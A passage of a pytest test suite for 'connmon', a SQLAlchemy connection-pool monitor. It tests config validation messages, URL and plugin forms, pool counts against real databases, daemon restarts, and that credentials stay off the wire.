    path = write(tmp_path, "[connmon_service_a]\nname: a\nnodes:\n"
                 "    n1 hostname=h\n")
    with pytest.raises(connmon.ConfigError,
                       match=r"unknown service 'b' \(services: a\)"):
        connmon.find_service("b", path)
    with pytest.raises(connmon.ConfigError,
                       match="cannot read config file .*nope.cfg"):
        connmon.find_service("a", str(tmp_path / "nope.cfg"))


def test_daemon_refuses_bad_config_and_ambiguous_node(tmp_path):
    path = write(tmp_path, "[connmon_service_a]\nname: a\nnodes:\n"
                 "    n1 hostname=127.0.0.1:1\n    n2 hostname=127.0.0.1:2\n")
    result = subprocess.run(
        [sys.executable, "-m", "connmon_server", "-c", path, "-s", "a"],
        cwd=HERE, env=CHILD_ENV, capture_output=True, text=True,
        timeout=30)
    assert result.returncode == 2
    assert ("has several nodes (n1, n2); say which one this is with --node"
            in result.stderr)


@pytest.mark.parametrize("text, expected", [
    ("host", ("host", 5800)), ("host:1", ("host", 1)),
    ("[::1]:7", ("::1", 7)), ("::1", ("::1", 5800)),
    ("10.0.0.1:65535", ("10.0.0.1", 65535)),
])
def test_parse_address(text, expected):
    assert connmon.parse_address(text) == expected


@pytest.mark.parametrize("text", ["", "host:", "host:0", "host:x", ":80",
                                  "[::1", "[::1]x"])
def test_parse_address_rejects(text):
    with pytest.raises(connmon.ConfigError):
        connmon.parse_address(text)


@pytest.mark.parametrize("text, message", MALFORMED_CONFIGS)
def test_check_config_catches_malformed_configs(tmp_path, text, message):
    result = run_connmond("--check-config", "-c", write(tmp_path, text),
                          "-s", "a")
    assert result.returncode == 2
    assert result.stderr.startswith("connmond: error: ")
    assert located(message) in result.stderr
    assert result.stdout == ""


def test_check_config_says_ok_in_one_line(tmp_path):
    path = write(tmp_path, """\
        [connmon_service_a]
        name: a
        metrics_port: 9187
        csv_dump: TMP/a.csv
        csv_interval: 2.5
        nodes:
            n1 hostname=127.0.0.1:1 bind=127.0.0.1
        """.replace("TMP", str(tmp_path)))
    result = run_connmond("--check-config", "-c", path, "-s", "a")
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout == (
        f"connmond: config OK: {path} service 'a': node n1 listening on "
        f"127.0.0.1:1, metrics on 127.0.0.1:9187, CSV to "
        f"{tmp_path}/a.csv every 2.5s\n")


@pytest.mark.parametrize("options, message", [
    ("metrics_port: http", "metrics_port: expected a port number 1-65535, "
     "got 'http'"),
    ("metrics_port: 70000", "metrics_port: expected a port number"),
    ("metrics_port: 9100\nmetrics_bind: 0.0.0.0:9100",
     "metrics_bind: expected an address without a port (the port is "
     "metrics_port), got '0.0.0.0:9100'"),
    ("metrics_bind: 0.0.0.0", "metrics_bind is set but metrics_port is not"),
    ("csv_dump: /tmp/x.csv\ncsv_interval: 0",
     "csv_interval: expected a number of seconds above 0, got '0'"),
    ("csv_dump: /tmp/x.csv\ncsv_interval: soon",
     "csv_interval: expected a number of seconds above 0, got 'soon'"),
    ("csv_dump: /tmp/x.csv\ncsv_columns: time, hostname, colour",
     "csv_columns: unknown column colour (known: time, token, service, "
     "node, hostname, progname,"),
    ("csv_dump: /tmp/x.csv\ncsv_columns: conn conn",
     "csv_columns: a column is listed twice in 'conn conn'"),
    ("csv_token: run-7", "csv_token is set but csv_dump is not"),
])
def test_check_config_catches_bad_daemon_options(tmp_path, options, message):
    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + options +
                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
    result = run_connmond("--check-config", "-c", path, "-s", "a")
    assert result.returncode == 2
    assert re.search(re.escape(f"connmond: error: {path}:") + r"\d+: " +
                     re.escape(f"[connmon_service_a] {message}"),
                     result.stderr), result.stderr


def test_check_config_catches_bad_logging_sections(tmp_path):
    path = write(tmp_path, """\
        [connmon_service_a]
        name: a
        nodes:
            n1 hostname=127.0.0.1:1
        [loggers]
        keys = root
        [handlers]
        keys = nowhere
        [formatters]
        keys =
        [logger_root]
        handlers = nowhere
        """)
    result = run_connmond("--check-config", "-c", path, "-s", "a")
    assert result.returncode == 2
    assert f"connmond: error: {path}: logging sections: KeyError" in (
        result.stderr)
    assert "handler_nowhere" in result.stderr


def test_forget_gone_after_is_a_checked_daemon_option(tmp_path):
    daemon = Daemon(tmp_path, extra_config="forget_gone_after: 1\n")
    try:
        SyntheticApp(daemon, "ctl1", "cron-job").conn.close()
        wait_until(lambda: daemon.snapshot()["rows"], what="the row")
        wait_until(lambda: not daemon.snapshot()["rows"],
                   what="the gone row forgotten")
    finally:
        daemon.stop()


# (option line, message, read by the applications too)
CONFIG_MISTAKES = [
    ("heartbeat_timeout: 0", "heartbeat_timeout: expected a number of "
     "seconds from 1 to 3600, got '0'", False),
    ("max_clients: -5", "max_clients: expected a whole number from 1 to "
     "1048576, got '-5'", False),
    ("forget_gone_after: 0", "forget_gone_after: expected a number of "
     "seconds from 1 to", False),
    ("hold_ms_warn: slow", "hold_ms_warn: expected a number of "
     "milliseconds from 0.1 to", False),
    ("metrics_prot: 9187", "unknown option 'metrics_prot' (did you mean "
     "metrics_port?)", False),
    ("hold_warn_seconds: abc", "hold_warn_seconds: expected a number of "
     "seconds from 0.1 to 86400, got 'abc'", True),
    ("hold_warn_seconds: 0", "hold_warn_seconds: expected a number of "
     "seconds from 0.1 to 86400, got '0'", True),
    ("checkout_sites: maybe", "checkout_sites: expected 1 (on) or 0 (off), "
     "got 'maybe'", True),
]


@pytest.mark.parametrize("line, message, app_reads_it", CONFIG_MISTAKES)
def test_check_config_refuses_each_mistake(tmp_path, line, message,
                                           app_reads_it):
    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + line +
                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
    result = run_connmond("--check-config", "-c", path, "-s", "a")
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr.startswith(
        f"connmond: error: {path}:3: [connmon_service_a] {message}")
    assert len(result.stderr.splitlines()) == 1


@pytest.mark.parametrize("line, message", [
    (line, message) for line, message, app in CONFIG_MISTAKES if app])
@pytest.mark.parametrize("form", ["sqlite+pysqlite_connmon://", "sqlite://"])
def test_create_engine_refuses_each_mistake_it_reads(tmp_path, form, line,
                                                     message):
    """The applications read hold_warn_seconds and checkout_sites through
    the same definitions --check-config uses: the same message."""
    import sqlalchemy as sa
    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + line +
                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
    url = f"{form}/?connmon_service=a&connmon_config={path}"
    if form == "sqlite://":
        url += "&plugin=connmon"
    with pytest.raises(connmon.ConfigError) as err:
        sa.create_engine(url)
    assert str(err.value) == f"{path} [connmon_service_a]: {message}"


@pytest.mark.parametrize("text, message", [
    ("[connmon_service_a]\nname: a\nnodes\n    n1 hostname=h\n",
     "[connmon_service_a], line 3: 'nodes' is not 'option: value' (no ':' "
     "or '=')"),
    ("[connmon_service_a\nname: a\n",
     "line 1: section header '[connmon_service_a' has no closing ']'"),
])
def test_check_config_parse_errors_in_one_line(tmp_path, text, message):
    path = write(tmp_path, text)
    result = run_connmond("--check-config", "-c", path, "-s", "a")
    assert result.returncode == 2
    assert result.stderr == f"connmond: error: {path}{located(message)}\n"


def test_unknown_service_names_the_source_read(tmp_path):
    if os.path.exists(connmon.DEFAULT_CONFIG_FILE):
        pytest.skip(f"{connmon.DEFAULT_CONFIG_FILE} exists on this machine")
    result = run_connmond("--check-config", "-s", "nope")
    assert result.stderr == ("connmond: error: <built-in default>: unknown "
                             "service 'nope' (services: default)\n")
    path = write(tmp_path, "[connmon_service_a]\nname: a\nnodes:\n"
                 "    n1 hostname=h\n")
    result = run_connmond("--check-config", "-c", path, "-s", "nope")
    assert result.stderr == (f"connmond: error: {path}: unknown service "
                             "'nope' (services: a)\n")
    import sqlalchemy as sa
    with pytest.raises(connmon.ConfigError, match="^<built-in default>: "
                       "unknown service 'nope'"):
        sa.create_engine("sqlite+pysqlite_connmon:///?connmon_service=nope")


def test_parse_config_reads_every_service_and_refuses_other_sections():
    """Several services in one text, each with its nodes (default port,
    the wildcard bind of the address's family) and its other options; a
    section that is neither a service nor logging's is a mistake, named
    with the service likeliest meant."""
    services = connmon.parse_config(textwrap.dedent("""\
        [DEFAULT]
        heartbeat_timeout: 7
        [connmon_service_first]
        name: nova
        nodes:
            a hostname=10.0.0.1
            # a comment line between nodes
            b hostname=[fd00::2]:5900 bind=[::1]
        csv_dir: /var/lib/connmon
        [connmon_service_second]
        name: neutron
        nodes: c hostname=localhost:6000 bind=127.0.0.1
        """), "test.cfg")
    assert sorted(services) == ["neutron", "nova"]
    nova, neutron = services["nova"], services["neutron"]
    assert [(n.name, n.address, n.bind) for n in nova.nodes] == [
        ("a", ("10.0.0.1", 5800), ("0.0.0.0", 5800)),
        ("b", ("fd00::2", 5900), ("::1", 5900))]
    assert nova.options == {"csv_dir": "/var/lib/connmon",
                            "heartbeat_timeout": "7"}
    assert nova.source == "test.cfg [connmon_service_first]"
    assert [(n.name, n.address, n.bind) for n in neutron.nodes] == [
        ("c", ("localhost", 6000), ("127.0.0.1", 6000))]
    assert nova.node("b").address == ("fd00::2", 5900)
    with pytest.raises(connmon.ConfigError, match="has no node 'z'"):
        nova.node("z")
    with pytest.raises(connmon.ConfigError, match=r"test.cfg, \[connmon\], "
                       r"line 1: unknown section: .* did you mean "
                       r"\[connmon_service_default\]\?"):
        connmon.parse_config("[connmon]\nname: nova\n", "test.cfg")


NAME_CHARACTERS = "abcdefghijklmnopqrstuvwxyz0123456789-"


@hypothesis.settings(max_examples=50, deadline=None)
@hypothesis.given(nodes=st.lists(st.tuples(
    st.text(NAME_CHARACTERS + "_", min_size=1, max_size=12),
    st.text(NAME_CHARACTERS + ".", min_size=1, max_size=20).map(
        lambda host: "h" + host),
    st.integers(1, 65535), st.one_of(st.none(), st.integers(1, 65535))),
    min_size=1, max_size=5, unique_by=lambda node: node[0]))
def test_parse_config_nodes_as_written(nodes):
    """Whatever the names, hosts and ports, each node line reads back as
    written, in order."""
    text = "[connmon_service_x]\nname: x\nnodes:\n" + "".join(
        f"    {name} hostname={host}:{port}"
        + (f" bind=127.0.0.1:{bind}" if bind else "") + "\n"
        for name, host, port, bind in nodes)
    (service,) = connmon.parse_config(text, "x.cfg").values()
    assert [(n.name, n.address, n.bind) for n in service.nodes] == [
        (name, (host, port), ("127.0.0.1", bind) if bind else
         ("0.0.0.0", port)) for name, host, port, bind in nodes]


# ===========================================================================
# URLs and the plugin
#
# Both URL forms (a <driver>_connmon dialect name and ?plugin=connmon) on
# real MariaDB, PostgreSQL and SQLite: the counts match the pool's and the
# database's own whatever the engine does (dispose, detach, invalidate,
# recycle, engines made and dropped); the connmon parameters reach neither
# the driver nor the wire; the application keeps working whatever the daemon
# does.
# ===========================================================================


BACKENDS = {
    "mysql-dialect": (MYSQL_URL, "dialect"),
    "mysql-plugin": (MYSQL_URL, "plugin"),
    "postgresql-psycopg2-dialect": (POSTGRESQL_URL, "dialect"),
    "postgresql-psycopg-plugin": (
        POSTGRESQL_URL.replace("+psycopg2", "+psycopg"), "plugin"),
    "sqlite-dialect": ("sqlite:///{tmp}/db.sqlite", "dialect"),
    "sqlite-plugin": ("sqlite:///{tmp}/db.sqlite", "plugin"),
}


@pytest.mark.parametrize("backend", list(BACKENDS))
def test_queuepool_counts(backend, daemon, apps, tmp_path):
    url, form = BACKENDS[backend]
    url = url.format(tmp=tmp_path)
    if not url.startswith("sqlite"):
        require_database(url)
    app = apps(monitored(url, daemon, form), "queuepool.py", pool_size=2,
               max_overflow=3)
    check_queuepool_counts(app, daemon)


def check_queuepool_counts(app: "App", daemon: Daemon) -> None:
    """Hold, return, overflow, dispose: the daemon follows exactly."""
    name = app.progname
    app("hold 5")
    daemon.wait_row(name, conn=5, ckout=5, maxconn=5, maxckout=5)
    app("release 3")
    # Two returns fill the pool (size 2); the third is overflow and closed.
    daemon.wait_row(name, conn=4, ckout=2)
    app("release 2")   # two more overflow closes
    daemon.wait_row(name, conn=2, ckout=0)
    app("query 20")
    daemon.wait_row(name, conn=2, ckout=0)
    app("dispose")
    row = daemon.wait_row(name, conn=0, ckout=0, nproc=1)
    assert (row["maxconn"], row["maxckout"], row["maxnproc"]) == (5, 5, 1)
    snapshot = daemon.snapshot()
    assert (snapshot["connections"], snapshot["max_connections"],
            snapshot["max_checkouts"], snapshot["processes"]) == (0, 5, 5, 1)


@pytest.fixture(scope="session")
def sqlalchemy_2_0(tmp_path_factory) -> Dict[str, str]:
    """The environment for apps on SQLAlchemy 2.0 (installed into a folder
    that comes before the site-packages holding 2.1)."""
    target = tmp_path_factory.mktemp("sqlalchemy-2.0")
    result = subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q",
         "--disable-pip-version-check", "--target", str(target),
         "SQLAlchemy>=2.0,<2.1"], capture_output=True, text=True,
        timeout=600)
    if result.returncode:
        missing(f"cannot install SQLAlchemy 2.0: {result.stderr[-800:]}")
    return dict(CHILD_ENV, PYTHONPATH=os.pathsep.join([HERE, str(target)]))


@pytest.mark.parametrize("backend", ["mysql-dialect", "sqlite-plugin"])
def test_queuepool_counts_on_sqlalchemy_2_0(backend, sqlalchemy_2_0, daemon,
                                            apps, tmp_path):
    url, form = BACKENDS[backend]
    url = url.format(tmp=tmp_path)
    if not url.startswith("sqlite"):
        require_database(url)
    app = apps(monitored(url, daemon, form), "queuepool20.py",
               env=sqlalchemy_2_0, pool_size=2, max_overflow=3)
    (version,) = app("version")
    assert version.startswith("2.0.")
    check_queuepool_counts(app, daemon)


def mariadb_connections_of(pid: int) -> int:
    """How many connections MariaDB lists from process ``pid``: its
    processlist's client ports matched with the sockets the kernel says
    that process has open to port 3306."""
    import sqlalchemy as sa
    inodes = set()
    for fd in pathlib.Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:   # closed meanwhile
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in pathlib.Path(f"/proc/{pid}/net/{table}").read_text(
                ).splitlines()[1:]:
            fields = line.split()
            local, remote, inode = fields[1], fields[2], fields[9]
            if inode in inodes and int(remote.rsplit(":", 1)[1], 16) == 3306:
                ports.add(int(local.rsplit(":", 1)[1], 16))
    engine = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
    with engine.connect() as conn:
        hosts = conn.execute(sa.text(
            "SELECT HOST FROM information_schema.PROCESSLIST")).scalars()
        return sum(1 for host in hosts
                   if host and int(host.rsplit(":", 1)[-1] or 0) in ports)


def wait_counts_as_mariadb(daemon: Daemon, app: "App", conn: int,
                           ckout: int) -> None:
    """connmon's row shows ``conn`` and ``ckout``, and MariaDB lists
    ``conn`` connections from the app's process."""
    daemon.wait_row(app.progname, conn=conn, ckout=ckout)
    wait_until(lambda: mariadb_connections_of(app.proc.pid) == conn,
               what=f"MariaDB to list {conn} connections of {app.progname}")


def follow_steps(daemon: Daemon, app: "App",
                 steps: List[Tuple[str, Optional[Tuple[int, int]]]]) -> None:
    """Send each command; after each with (conn, ckout), connmon and
    MariaDB must show them."""
    for command, counts in steps:
        app(command)
        if counts:
            wait_counts_as_mariadb(daemon, app, *counts)


def test_dispose_counts_what_the_database_sees(daemon, apps):
    """engine.dispose() closes the idle connections; those checked out go
    back to the old pool when returned and stay open (MariaDB lists them)
    until the garbage collector takes that pool, as do all of a pool let
    go with dispose(close=False)."""
    require_database(MYSQL_URL)
    app = apps(monitored(MYSQL_URL, daemon), "dispose.py", pool_size=5)
    app("nogc")   # the test says when the collector runs
    steps = [("hold 3", None),
             ("release 1", (3, 2)),
             ("dispose", (2, 2)),    # the idle one closed
             ("release 2", (2, 0)),  # back in the old pool, open
             ("hold 1", (3, 1)),     # the new pool works and is counted
             ("collect", (1, 1)),    # the old pool collected
             ("release 1", None),
             ("drop_pool", (1, 0)),  # dispose(close=False): still open
             ("collect", (0, 0)),
             ("hold 1", (1, 1))]
    follow_steps(daemon, app, steps)


def test_detached_connection_counted_until_closed_or_collected(daemon,
                                                              apps):
    """A connection detached from its pool stays open, checked out by the
    application, until it is closed, or collected once dropped."""
    require_database(MYSQL_URL)
    app = apps(monitored(MYSQL_URL, daemon), "detach.py", pool_size=5)
    app("nogc")
    steps = [("hold 2", (2, 2)),
             ("detach", (2, 2)),
             ("release 1", (1, 1)),   # closing it closes the connection
             ("hold 1", (2, 2)),
             ("detach", (2, 2)),
             ("drop", (1, 1))]        # collected unclosed: closed too
    follow_steps(daemon, app, steps)


def test_connect_listener_failure_leaves_no_connection(daemon, apps):
    """A connect listener of the application's that fails after connmon's
    (SQLAlchemy then closes the new connection, with no close event): the
    connection is never counted."""
    require_database(MYSQL_URL)
    app = apps(monitored(MYSQL_URL, daemon), "setfails.py", pool_size=5)
    app("hold 1")
    wait_counts_as_mariadb(daemon, app, conn=1, ckout=1)
    assert app("fail_connects 3") == ["3"]
    app("hold 1")
    wait_counts_as_mariadb(daemon, app, conn=2, ckout=2)
    app("release 2")
    wait_counts_as_mariadb(daemon, app, conn=2, ckout=0)


def test_engines_made_and_dropped_leave_no_trace(daemon, apps, tmp_path):
    """More engines, one after another, than the daemon takes pools from
    one process: each is forgotten once collected."""
    app = apps(f"sqlite:///{tmp_path}/engines.sqlite?plugin=connmon"
               f"&connmon_addr={daemon.address}", "engines.py")
    app("hold 1")
    daemon.wait_row("engines.py", conn=1, ckout=1, limit=15)
    app(f"engines {connmon.MAX_PROCESS_POOLS + 50}", timeout=120)
    app("hold 1")   # the process is still attached and counted
    daemon.wait_row("engines.py", nproc=1, conn=2, ckout=2, limit=15)
    assert "pools in one process" not in daemon.log.read_text()


def test_counters_keep_coming_while_the_app_is_busy(daemon, apps,
                                                    tmp_path):
    """Checkout counts reach the daemon within a second when the events
    stop, and again and again while they go on."""
    app = apps(f"sqlite:///{tmp_path}/busy.sqlite?plugin=connmon"
               f"&connmon_addr={daemon.address}", "busy.py")
    app("hold 1")   # a connection held throughout: its count never changes
    daemon.wait_row("busy.py", conn=1, ckout=1)
    app("query 3")
    daemon.wait_row("busy.py", ckout_total=4)
    app("busy")
    total = daemon.row("busy.py")["ckout_total"]

    def grown() -> Optional[int]:
        now = daemon.row("busy.py")["ckout_total"]
        return now if now > total else None
    for _ in range(3):   # it grows, again and again
        total = wait_until(grown, what="the checkout count to grow")
    wait_until(lambda: daemon.row("busy.py")["ckout_per_sec"] > 0,
               what="a checkout rate while the app is busy")


def test_invalidate_pre_ping_and_recycle(daemon, apps):
    require_database(MYSQL_URL)
    app = apps(monitored(MYSQL_URL, daemon), "invalidate.py", pool_size=5,
               pool_pre_ping=True)
    app("hold 3")
    daemon.wait_row("invalidate.py", conn=3, ckout=3)
    app("invalidate")
    daemon.wait_row("invalidate.py", conn=2, ckout=2)

    # Kill one pooled connection on the server: the pre-ping at its next
    # checkout fails, SQLAlchemy invalidates it and connects anew.
    (thread_id,) = app("backend_pid")
    app("release 2")
    daemon.wait_row("invalidate.py", conn=2, ckout=0)
    import sqlalchemy as sa
    admin = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
    with admin.connect() as conn:
        conn.execute(sa.text(f"KILL CONNECTION {int(thread_id)}"))
    # The pool now holds the invalidated entry (reconnects on checkout), the
    # killed one (fails its pre-ping: close, connect) and one healthy one.
    app("hold 2")
    row = daemon.wait_row("invalidate.py", conn=3, ckout=2)
    assert row["maxconn"] == 3   # the killed connection was not left counted

    recycler = apps(monitored(MYSQL_URL, daemon), "recycle.py",
                    pool_recycle=1)
    for _ in range(3):
        recycler("query 1")
        daemon.wait_row("recycle.py", conn=1, ckout=0)
        time.sleep(1.1)   # let the connection pass pool_recycle
    recycler("query 1")
    row = daemon.wait_row("recycle.py", conn=1, ckout=0)
    assert row["maxconn"] == 1   # a recycled connection is closed, not added


def test_daemon_restart_converges_without_double_counting(tmp_path, apps):
    require_database(MYSQL_URL)
    daemon = Daemon(tmp_path)
    try:
        one = apps(monitored(MYSQL_URL, daemon), "one.py")
        two = apps(monitored(MYSQL_URL, daemon, "plugin"), "two.py")
        one("hold 3")
        two("hold 2")
        two("release 1")
        daemon.wait_row("one.py", conn=3, ckout=3)
        daemon.wait_row("two.py", conn=2, ckout=1)
        for _ in range(2):
            daemon.kill()
            one("release 1")       # changes while the daemon is away
            two("query 5")
            daemon.start()
            daemon.wait_row("one.py", nproc=1, conn=3, ckout=2)
            daemon.wait_row("two.py", nproc=1, conn=2, ckout=1)
            one("hold 1")
            snapshot = wait_until(
                lambda: (lambda s: s if s["connections"] == 5 and
                         s["checkouts"] == 4 else None)(daemon.snapshot()),
                what="totals after restart")
            assert snapshot["processes"] == 2
    finally:
        daemon.stop()


def test_app_keeps_working_with_daemon_down(apps, tmp_path):
    port = free_port()   # nothing listens here
    url = (f"sqlite:///{tmp_path}/down.sqlite?plugin=connmon"
           f"&connmon_addr=127.0.0.1:{port}")
    app = apps(url, "down.py")
    app("hold 2")
    app("query 500")
    app("release 2")
    (before,) = app("ticks")
    time.sleep(3)
    app("query 100")
    (after,) = app("ticks")
    # A busy-looping sender would burn ~300 ticks in 3 s; retries cost ~0.
    assert int(after) - int(before) < 30
    assert "Traceback" not in (tmp_path / "down.py.log").read_text()


def test_sender_works_with_descriptors_numbered_above_1024(daemon,
                                                          tmp_path):
    """A big application has many files open: select() could not wait on
    the sender's descriptors there."""
    script = tmp_path / "many_fds.py"
    script.write_text(textwrap.dedent("""\
        import os, sys
        import sqlalchemy as sa
        files = [os.open(os.devnull, os.O_RDONLY) for _ in range(1100)]
        engine = sa.create_engine(sys.argv[1])
        conn = engine.connect()
        print("ok", files[-1], flush=True)
        sys.stdin.read()
        """))
    app = subprocess.Popen(
        [sys.executable, str(script), f"sqlite:///{tmp_path}/fds.sqlite"
         f"?plugin=connmon&connmon_addr={daemon.address}"],
        cwd=HERE, env=CHILD_ENV, stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, text=True)
    try:
        assert select.select([app.stdout], [], [], 30)[0], "app is stuck"
        ok, last_fd = app.stdout.readline().split()
        assert ok == "ok" and int(last_fd) > 1024
        daemon.wait_row("many_fds.py", conn=1, ckout=1)
    finally:
        app.kill()
        app.wait(10)


def test_no_credentials_on_the_wire_and_none_to_the_driver(daemon, apps):
    require_database(POSTGRESQL_URL)
    relay = Relay(daemon.port)
    password = "s3cr3t-Pa55word"   # trust auth: the server ignores it
    url = POSTGRESQL_URL.replace("postgres@", f"postgres:{password}@")
    url = url.replace("postgresql+psycopg2://",
                      "postgresql+psycopg2_connmon://")
    url += f"?connmon_addr=127.0.0.1:{relay.port}"
    app = apps(url, "secret.py")
    app("hold 2")
    daemon.wait_row("secret.py", conn=2, ckout=2)
    relay.close()
    with relay.lock:
        wire = bytes(relay.received)
    assert b'"role":"app"' in wire and b'"op":"update"' in wire
    # The database's backend, host, port, name and user go (see "Pool
    # pressure and databases"); the password, the URL, its query do not.
    for secret in (password.encode(), b"://", b"psycopg2", b"connmon_addr"):
        assert secret not in wire


def test_connmon_parameters_never_reach_the_driver(daemon, tmp_path):
    import sqlalchemy as sa
    from sqlalchemy import event
    require_database(MYSQL_URL)
    seen = []
    for form in ("dialect", "plugin"):
        engine = sa.create_engine(monitored(MYSQL_URL, daemon, form)
                                  + "&charset=utf8mb4")
        event.listen(engine, "do_connect",
                     lambda dialect, rec, cargs, cparams: seen.append(cparams))
        with engine.connect() as conn:
            assert conn.execute(sa.text("SELECT 1")).scalar() == 1
        assert engine.dialect.name == "mysql"
        engine.dispose()
    assert len(seen) == 2
    for cparams in seen:
        assert cparams["charset"] == "utf8mb4"
        assert not [key for key in cparams if key.startswith("connmon")]


@pytest.mark.parametrize("query, message", [
    ("connmon_servce=default", "unknown URL parameter 'connmon_servce'"),
    ("connmon_addr=127.0.0.1:99999", "bad port '99999'"),
    ("connmon_service=nosuch&connmon_config={cfg}",
     "unknown service 'nosuch'"),
    ("connmon_config=/nonexistent.cfg", "cannot read config file"),
    ("connmon_addr=a:1&connmon_addr=b:2", "given more than once"),
])
@pytest.mark.parametrize("form", ["sqlite+pysqlite_connmon://", "sqlite://"])
def test_bad_url_parameters_fail_at_create_engine(tmp_path, form, query,
                                                  message):
    import sqlalchemy as sa
    cfg = write(tmp_path, "[connmon_service_a]\nname: a\nnodes:\n"
                "    n1 hostname=127.0.0.1\n")
    url = form + "/?" + query.format(cfg=cfg)
    if form == "sqlite://":
        url += "&plugin=connmon"
    with pytest.raises(connmon.ConfigError, match=message.replace(
            "(", r"\(").replace(")", r"\)")):
        sa.create_engine(url)


def test_both_url_forms_at_once_count_once(daemon, tmp_path):
    import sqlalchemy as sa
    url = (f"sqlite+pysqlite_connmon:///{tmp_path}/x.sqlite?plugin=connmon"
           f"&connmon_addr={daemon.address}")
    engine = sa.create_engine(url, poolclass=sa.pool.QueuePool)
    with engine.connect():
        progname = connmon.progname()
        daemon.wait_row(progname, conn=1, ckout=1)
    daemon.wait_row(progname, conn=1, ckout=0)
    engine.dispose()
    daemon.wait_row(progname, conn=0)


def test_every_dialect_entry_point_is_installed():
    from importlib.metadata import entry_points
    installed = {ep.name: ep.value for ep in
                 entry_points(group="sqlalchemy.dialects")
                 if ep.value.startswith("connmon:")}
    assert installed == {name: f"connmon:{attr}" for name, attr in
                         connmon.DIALECT_ENTRY_POINTS.items()}
    plugins = [ep.value for ep in entry_points(group="sqlalchemy.plugins")
               if ep.name == "connmon"]
    assert plugins == ["connmon:ConnmonPlugin"]


@pytest.mark.parametrize("name", sorted(connmon.DIALECT_ENTRY_POINTS))
def test_dialect_classes_look_like_the_real_ones(name):
    """Each <driver>_connmon dialect class is a subclass of the real one
    with the real one's module and name (what SQLAlchemy's testing
    provisioning and oslo.db key on)."""
    from sqlalchemy.engine import make_url
    backend, driver = name.split(".")
    url = make_url(f"{backend}+{driver}://h/db?connmon_addr=127.0.0.1:1")
    entry = getattr(connmon, connmon.DIALECT_ENTRY_POINTS[name])
    ours = entry.get_dialect_cls(url)
    real = url.set(drivername=entry.real_drivername).get_dialect()
    assert issubclass(ours, real) and ours is not real
    assert (ours.__module__, ours.name, ours.driver) == (
        real.__module__, real.name, real.driver)
    assert ours.__module__.startswith(f"sqlalchemy.dialects.")


MARIADB_NAMES_SCRIPT = r"""
import json, sys
import sqlalchemy as sa

engine = sa.create_engine(sys.argv[1])
held = [engine.connect(), engine.connect()]
version = held[0].execute(sa.text("SELECT VERSION()")).scalar()
dialect = type(engine.dialect)
mysqldb = sa.engine.make_url(sys.argv[1].replace("+pymysql_connmon",
                                                 "+mysqldb_connmon"))
real = sa.engine.make_url("mariadb+pymysql://").get_dialect()
real_mysqldb = sa.engine.make_url("mariadb+mysqldb://").get_dialect()
print(json.dumps([dialect.__module__ == real.__module__, engine.dialect.name,
                  engine.dialect.is_mariadb, version,
                  issubclass(dialect, real), issubclass(
                      mysqldb.get_dialect(), real_mysqldb),
                  mysqldb.get_dialect().__module__ == real_mysqldb.__module__,
                  mysqldb.get_dialect().name]), flush=True)
sys.stdin.read()
"""


def test_mariadb_names_against_real_mariadb(tmp_path, daemon):
    """mariadb+pymysql_connmon and mariadb+mysqldb_connmon, registered as
    ``python connmon.py --install-entry-points`` registers them (pip does
    the same from setup.py): the real MariaDB dialects, monitored."""
    require_database(MYSQL_URL)
    site = tmp_path / "site"
    site.mkdir()
    result = subprocess.run(
        [sys.executable, os.path.join(HERE, "connmon.py"),
         "--install-entry-points", "--target", str(site)],
        cwd=tmp_path, env=CHILD_ENV, capture_output=True, text=True,
        timeout=60)
    assert result.returncode == 0, result.stderr
    from sqlalchemy.engine import make_url
    url = make_url(MYSQL_URL).set(
        drivername="mariadb+pymysql_connmon").update_query_dict(
            {"connmon_addr": daemon.address}).render_as_string(
                hide_password=False)
    script = tmp_path / "mariadb_names.py"
    script.write_text(MARIADB_NAMES_SCRIPT)
    env = dict(CHILD_ENV, PYTHONPATH=os.pathsep.join(
        [str(site), CHILD_ENV["PYTHONPATH"]]))
    app = subprocess.Popen([sys.executable, str(script), url], cwd=tmp_path,
                           env=env, text=True, stdin=subprocess.PIPE,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        line = app.stdout.readline()
        assert line, app.stderr.read()
        same_module, name, is_mariadb, version, *rest = json.loads(line)
        assert (same_module, name, is_mariadb) == (True, "mariadb", True)
        assert "MariaDB" in version
        assert rest == [True, True, True, "mariadb"]   # subclasses; mysqldb
        daemon.wait_row("mariadb_names.py", nproc=1, conn=2, ckout=2)
    finally:
        app.kill()
        app.wait(10)


# An application with two engines: the first (with the test's options)
# holds connections on command, the second serves RATE requests a second
# on a thread of its own ("serve RATE"), so that the process sends all the
# time.  Times answered are the application's own (time.time()).
RHYTHM_APP_SCRIPT = r'''
import json, sys, threading, time
import sqlalchemy as sa

urls, options = json.loads(sys.argv[1]), json.loads(sys.argv[2])
held_engine = sa.create_engine(urls[0], **options)
served_engine = sa.create_engine(urls[1])
held, waiter, timed_out = [], [], []

def answer(*words):
    print(*words, flush=True)

def serve(rate):
    next_at = time.monotonic()
    while True:
        with served_engine.connect() as conn:
            conn.exec_driver_sql("SELECT 1").scalar()
        next_at += 1 / rate
        time.sleep(max(0.0, next_at - time.monotonic()))

def wait_for_one(began):
    began.set()
    try:
        held_engine.connect()
    except sa.exc.TimeoutError:
        timed_out.append(time.time())

for line in sys.stdin:
    cmd, *args = line.split()
    if cmd == "serve":
        threading.Thread(target=serve, args=(float(args[0]),),
                         daemon=True).start()
    elif cmd == "hold":
        held.append(held_engine.connect())
        answer("ok", time.time())
        continue
    elif cmd == "release":
        held.pop().close()
        answer("ok", time.time())
        continue
    elif cmd == "wait":   # one more checkout, on a thread: it waits
        began = threading.Event()
        waiter.append(threading.Thread(target=wait_for_one, args=(began,)))
        waiter[-1].start()
        began.wait()
        answer("ok", time.time())
